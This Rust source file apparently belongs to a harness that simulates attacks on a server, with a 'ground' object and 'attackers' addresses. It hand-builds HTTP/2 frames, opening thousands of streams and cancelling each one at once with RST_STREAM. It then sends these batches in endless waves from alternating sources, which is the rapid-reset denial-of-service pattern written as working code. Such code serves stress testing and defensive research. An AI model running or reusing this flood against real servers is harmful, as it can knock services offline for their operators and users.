//! Cancels HTTP/2 requests as soon as they are connect.

use super::pause;
use crate::ground::Ground;

const REQUESTS: usize = 5_000;
const ADDRESSES: usize = 2;

pub(super) async fn run(ground: Ground) {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    // GET http / with host h, by their HPACK indices.
    let head = [0x82, 0x86, 0x84, 0x41, 1, b'h'];
    for nth in 0..ground.part(REQUESTS) {
        let stream = 2 * nth as u32 + 1;
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &head));
        bytes.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
    }
    for wave in 0.. {
        let from = ground.attackers.nth(wave % ADDRESSES);
        if let Ok(mut connection) = ground.connect(from).await {
            let _ = connection.send(&bytes).await;
            connection.read_status().await;
        }
        pause(1.0).await;
    }
}

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// RFC 9113, section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head, stream.to_be_bytes().as_slice(), payload].concat()
}
